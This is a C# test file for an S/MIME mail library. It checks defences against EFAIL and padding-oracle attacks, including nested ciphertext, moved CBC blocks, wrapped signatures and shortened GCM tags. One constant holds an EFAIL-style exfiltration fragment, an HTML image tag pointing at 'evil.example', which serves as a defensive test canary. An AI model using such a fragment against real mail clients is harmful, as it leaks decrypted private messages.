using Portal.Smime.Cms;
using Portal.Smime.Keys;
using Portal.Smime.Mime;
using Portal.Smime.Tests.Support;

namespace Portal.Smime.Tests.Mime;

/// <summary>Encrypted layers: what is opened, what is left alone, and what the outside learns (threats: EFAIL, padding oracle).</summary>
public sealed class EncryptedLayerTests
{
    private const string Canary = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?";

    [Theory]
    [InlineData("multipart/mixed", $"{Canary}|{{encrypted}}|Content-Type: text/html\r\n\r\n\">")]
    [InlineData("multipart/mixed", "{encrypted}")]
    [InlineData("multipart/related", $"{Canary}|{{encrypted}}")]
    [InlineData("multipart/alternative", "Content-Type: text/plain\r\n\r\nHello|{encrypted}")]
    [InlineData("multipart/mixed", "Content-Type: multipart/mixed; boundary=inner\r\n\r\n--inner\r\n{encrypted}\r\n--inner--")]
    [InlineData("multipart/mixed", "Content-Type: message/rfc822\r\n\r\nSubject: x\r\n{encrypted}")]
    [InlineData("multipart/digest", "\r\nSubject: x\r\n{encrypted}")]
    public async Task Ciphertext_inside_other_content_is_never_decrypted(string type, string arrangement)
    {
        var encrypted = Mail.String(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Cbc));
        var parts = arrangement.Split('|').Select(part => $"--outer\r\n{part.Replace("{encrypted}", encrypted, StringComparison.Ordinal)}\r\n");
        var keys = TestKeys.Of(Pki.Bob);

        var opened = await Opened.FromAsync(
            Mail.Message(Mail.Bytes($"Content-Type: {type}; boundary=outer\r\n\r\n{string.Concat(parts)}--outer--\r\n")),
            Opened.Context(keys: keys));

        Assert.Equal(0, keys.Searches);
        Assert.False(opened.Summary.Encrypted);
        Assert.Equal("application/pkcs7-mime", Assert.Single(opened.Message.ErrantLayers).MediaType);
        Assert.DoesNotContain("patient", Mail.String(opened.Payload!), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Ciphertext_inside_decrypted_content_is_never_decrypted()
    {
        var inner = Mail.String(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm));
        var around = $"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n{Canary}\r\n--b\r\n{inner}\r\n--b--\r\n";

        var opened = await Opened.FromAsync(Mail.Message(await Mail.EncryptAsync(Mail.Bytes(around), ContentCipher.Aes256Gcm)));

        Assert.Equal(around, Mail.String(opened.Payload!));
        Assert.Single(opened.Message.ErrantLayers);
    }

    [Fact]
    public async Task Moved_blocks_of_signed_CBC_mail_are_never_valid()
    {
        var signed = await Mail.SignAsync(Mail.Text, Pki.Alice);
        var structure = Mail.Structure(await Mail.EncryptAsync(signed, ContentCipher.Aes256Cbc));
        var generator = new Xorshift(0x5eed);
        var begin = structure.Length - (signed.Length / 16 * 16);
        for (var mutant = 0; mutant < 100; mutant++)
        {
            var changed = structure.ToArray();
            var (from, to) = (begin + (generator.Below(20) * 16) - 64, begin + (generator.Below(20) * 16) - 64);
            structure.AsSpan(from, 32).CopyTo(changed.AsSpan(to));
            changed[to + generator.Below(16)] ^= (byte)(from == to ? 1 : 0);
            var opened = await Opened.FromAsync(Mail.Message(Mail.Pkcs7Mime(changed)));
            Assert.True(opened.Verdict != Verdict.SignedValid, $"mutant {mutant}");
        }
    }

    [Fact]
    public async Task Triple_wrapped_mail_is_valid()
    {
        var inner = await Mail.SignAsync(Mail.Text, Pki.Alice, SignedForm.Opaque);
        var outer = await Mail.SignAsync(await Mail.EncryptAsync(inner, ContentCipher.Aes256Gcm), Pki.Carol.Signer);

        var opened = await Opened.FromAsync(Mail.Message(outer));

        Assert.True(opened.Verdict == Verdict.SignedValid, opened.Why);
        Assert.Equal([LayerKind.ClearSigned, LayerKind.AuthEnveloped, LayerKind.OpaqueSigned], opened.Message.Layers.Select(layer => layer.Kind));
        Assert.Equal(Mail.Text, Mail.String(opened.Payload!));
    }

    [Fact]
    public async Task A_broken_outer_signature_spoils_a_right_inner_one()
    {
        var inner = await Mail.SignAsync(Mail.Text, Pki.Alice, SignedForm.Opaque);
        var outer = Mail.String(await Mail.SignAsync(inner, Pki.Carol.Signer)).Replace("smime.p7m", "smime.p7n", StringComparison.Ordinal);

        var opened = await Opened.FromAsync(Mail.Message(Mail.Bytes(outer)));

        Assert.Equal(Verdict.SignedInvalid, opened.Verdict);
        Assert.Contains(MessageReason.OuterSignatureBroken, opened.Summary.Reasons);
    }

    [Fact]
    public async Task A_signature_over_ciphertext_only_is_untrusted()
    {
        var opened = await Opened.FromAsync(Mail.Message(
            await Mail.SignAsync(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm), Pki.Alice.Signer)));

        Assert.Equal(Verdict.SignedUntrusted, opened.Verdict);
        Assert.Equal(MessageReason.SignsCiphertextOnly, Assert.Single(opened.Summary.Reasons));
        Assert.Equal(Mail.Text, Mail.String(opened.Payload!));
    }

    [Fact]
    public async Task More_layers_than_four_are_too_deep()
    {
        var entity = Mail.Bytes(Mail.Text);
        for (var layer = 0; layer < 5; layer++)
        {
            entity = await Mail.SignAsync(entity, Pki.Alice.Signer, SignedForm.Opaque);
        }

        var opened = await Opened.FromAsync(Mail.Message(entity));

        Assert.Equal(OpeningFailureKind.TooDeep, opened.Message.Failure!.Kind);
        Assert.Null(opened.Payload);
        Assert.NotEqual(Verdict.SignedValid, opened.Verdict);
    }

    [Theory]
    [InlineData(ContentCipher.Aes256Gcm, KeyTransportScheme.RsaPkcs1)]
    [InlineData(ContentCipher.Aes256Cbc, KeyTransportScheme.RsaPkcs1)]
    [InlineData(ContentCipher.Aes256Cbc, KeyTransportScheme.RsaOaepSha256)]
    public async Task A_wrong_key_and_a_damaged_encrypted_key_look_alike(ContentCipher cipher, KeyTransportScheme scheme)
    {
        var structure = Mail.Structure(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), cipher, scheme));
        var damaged = structure.ToArray();
        damaged[structure.AsSpan().IndexOf(new byte[] { 0x04, 0x82, 0x01, 0x00 }) + 100] ^= 1;
        var stranger = new TestKeys(Pki.Bob.DecryptionKeys.Select(key => key with { Key = Pki.Alice.PrivateKey }).ToArray());

        var wrong = await Opened.FromAsync(Mail.Message(Mail.Pkcs7Mime(structure)), Opened.Context(keys: stranger));
        var broken = await Opened.FromAsync(Mail.Message(Mail.Pkcs7Mime(damaged)));

        Assert.Equal(new OpeningFailure(OpeningFailureKind.DecryptionFailed), wrong.Message.Failure);
        Assert.Equal(wrong.Message.Failure, broken.Message.Failure);
        Assert.True(broken.Summary.Encrypted);
    }

    [Fact]
    public async Task Good_padding_under_a_wrong_key_is_a_failure_like_any_other()
    {
        // One wrong key in 256 leaves good padding: about eight here, and nearly all of them yield no entity.
        var message = Mail.Message(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes128Cbc));
        var opened = 0;
        for (var index = 0; index < 2000; index++)
        {
            using var key = ContentEncryptionKey.Random(ContentCipher.Aes128Cbc);
            var failure = (await Opened.FromAsync(message, Opened.Context(keys: TestKeys.None) with { KnownKeys = [key] })).Message.Failure;
            opened += failure is null ? 1 : 0;
            Assert.Equal(OpeningFailureKind.DecryptionFailed, failure?.Kind ?? OpeningFailureKind.DecryptionFailed);
        }

        Assert.InRange(opened, 0, 2);
    }

    [Theory]
    [InlineData(KeyStoreFailure.Unavailable, OpeningFailureKind.KeyUnavailable)]
    [InlineData(KeyStoreFailure.Refused, OpeningFailureKind.KeyRefused)]
    [InlineData(KeyStoreFailure.NotSupported, OpeningFailureKind.KeyRefused)]
    [InlineData(KeyStoreFailure.NotFound, OpeningFailureKind.NoMatchingKey)]
    public async Task What_a_key_store_answers_is_an_outcome(KeyStoreFailure failure, OpeningFailureKind kind)
    {
        var keys = new TestKeys(Pki.Bob.DecryptionKeys.Select(key => key with { Key = new TestKey(Pki.Bob.Key) { Failure = failure } }).ToArray());

        var opened = await Opened.FromAsync(Mail.Message(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm)), Opened.Context(keys: keys));

        Assert.Equal(kind, opened.Message.Failure!.Kind);
    }

    [Fact]
    public async Task Mail_for_somebody_else_asks_no_key()
    {
        var opened = await Opened.FromAsync(
            Mail.Message(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm)), Opened.Context(keys: TestKeys.Of(Pki.Alice)));

        Assert.Equal(OpeningFailureKind.NoMatchingKey, opened.Message.Failure!.Kind);
        Assert.True(opened.Summary.Encrypted);
    }

    [Fact]
    public async Task A_flood_of_recipients_costs_few_uses_of_keys()
    {
        var key = new TestKey(Pki.Alice.Key);
        var keys = Enumerable.Range(0, 40).Select(_ => new DecryptionKey(Pki.Bob.DecryptionKeys[0].Recipient, key)).ToArray();

        await Opened.FromAsync(
            Mail.Message(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm)), Opened.Context(keys: new TestKeys(keys)));

        Assert.Equal(OpeningLimits.Default.KeyAttempts, key.Calls);
    }

    [Fact]
    public async Task GCM_in_EnvelopedData_is_refused()
    {
        var structure = Mail.Structure(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm));
        var relabelled = Forgery.Replace(structure, Convert.FromHexString("060B2A864886F70D0109100117"), Convert.FromHexString("06092A864886F70D010703"));
        byte[] withoutTag = [.. relabelled[..^24], 0, 0, 0, 0, 0, 0];

        var opened = await Opened.FromAsync(Mail.Message(Mail.Pkcs7Mime(withoutTag)));

        Assert.Equal(OpeningFailureKind.UnsupportedAlgorithm, opened.Message.Failure!.Kind);
    }

    [Fact]
    public async Task A_shortened_tag_is_refused()
    {
        var structure = Mail.Structure(await Mail.EncryptAsync(Mail.Bytes(Mail.Text), ContentCipher.Aes256Gcm));
        byte[] macOnly = [.. structure[..^24], 0x04, 0x0c, .. structure[^22..^10], 0, 0, 0, 0, 0, 0];
        var declared = Forgery.Replace(macOnly, [0x02, 0x01, 0x10], [0x02, 0x01, 0x0c]);
        var parameters = macOnly.AsSpan().IndexOf(new byte[] { 0x30, 0x11, 0x04, 0x0c });
        byte[] byDefault = [.. macOnly[..parameters], 0x30, 0x0e, .. macOnly[(parameters + 2)..(parameters + 16)], .. macOnly[(parameters + 19)..]];
        byDefault[parameters - 12] -= 3;

        Assert.Equal(OpeningFailureKind.DecryptionFailed, (await Opened.FromAsync(Mail.Message(Mail.Pkcs7Mime(macOnly)))).Message.Failure!.Kind);
        foreach (var refused in (byte[][])[declared, byDefault])
        {
            var opened = (await Opened.FromAsync(Mail.Message(Mail.Pkcs7Mime(refused)))).Message;
            Assert.Equal(new OpeningFailure(OpeningFailureKind.UnsupportedAlgorithm, "aes-ICVlen"), opened.Failure);
            var failed = OpeningSteps.Of(opened).Where(step => step.Outcome == StepOutcome.Failed).Select(step => step.Kind);
            Assert.Equal([OpeningStepKind.Content], failed);
        }
    }
}
